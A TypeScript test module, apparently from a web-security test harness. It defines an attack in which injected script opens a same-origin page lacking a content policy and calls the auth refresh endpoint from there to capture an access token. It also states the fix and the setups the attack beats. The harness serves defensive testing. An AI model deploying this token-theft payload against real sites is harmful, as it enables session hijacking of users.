// Threat: a script injected into the page opens another page of the same origin, one that might have no policy, and calls the refresh
// endpoint from there. The attacker has one hole in the page's HTML.
import type { Attack } from '../attack.ts'
import { press } from '../scene.ts'
import { judgeToken, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  const other = window.open('/about') as (Window & typeof globalThis) | null
  if (other === null) return
  await new Promise((resolve) => setTimeout(resolve, 400))
  const answer = await other.fetch('/api/auth/refresh', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{}',
  })
  kit.take('token', ((await answer.json()) as { accessToken?: string }).accessToken)
  other.close()
}

export const openWindow: Attack = {
  name: 'open-window',
  group: 'script, late',
  title: 'Opens a page without a policy and works from there',
  what: 'The script opens “About us” in a new window and makes that page call the refresh endpoint.',
  why: 'Pages of one origin may reach into each other. The weakest page of an origin decides.',
  stops: 'The same policy on every answer of the origin, error pages included.',
  script: { when: 'late', payload: script },
  control: 'tutorial',
  succeedsOn: ['tutorial', 'hallpass'],
  inapplicable: ({ refreshCookie }) => (refreshCookie === undefined ? 'there is no refresh endpoint' : undefined),
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await press(page, '#read-notes', /read|error/)
    return judgeToken(scene, page, await scriptReport(scene), 'was given no token in the other window either')
  },
}
